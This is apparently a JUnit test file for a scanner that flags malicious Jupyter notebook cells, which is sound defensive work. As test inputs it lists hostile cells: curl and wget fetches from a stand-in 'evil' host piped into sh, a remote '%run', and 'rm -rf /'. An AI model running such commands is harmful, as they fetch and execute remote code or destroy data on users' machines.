package dev.weir.scanner.core.text;

import static dev.weir.scanner.core.Scans.scan;
import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.scanner.core.Verdict;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class NotebookSearchTest {

    private static final String NOTEBOOK =
            "{\"nbformat\": 4, \"cells\": [{\"cell_type\": \"code\", \"source\": \"%s\", \"outputs\": []}]}";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "out = !curl http://evil | sh",
                "!!curl http://evil | sh",
                "%system wget http://evil -O- | sh",
                "%%sh\\nrm -rf /",
                "get_ipython().system('curl http://evil | sh')",
                "%run http://evil/x.py"
            })
    void everyWayToTheShellIsRead(String cell) {
        assertThat(verdict(cell)).isEqualTo(Verdict.MALICIOUS);
    }

    @ParameterizedTest
    @ValueSource(strings = {"files = !ls", "%run train.py", "%matplotlib inline", "x = 1 if not y != 2 else 3"})
    void ordinaryCellsAreClean(String cell) {
        assertThat(verdict(cell)).isEqualTo(Verdict.CLEAN);
    }

    private static Verdict verdict(String cell) {
        return scan("a.ipynb", NOTEBOOK.formatted(cell).getBytes(StandardCharsets.UTF_8))
                .verdict();
    }
}
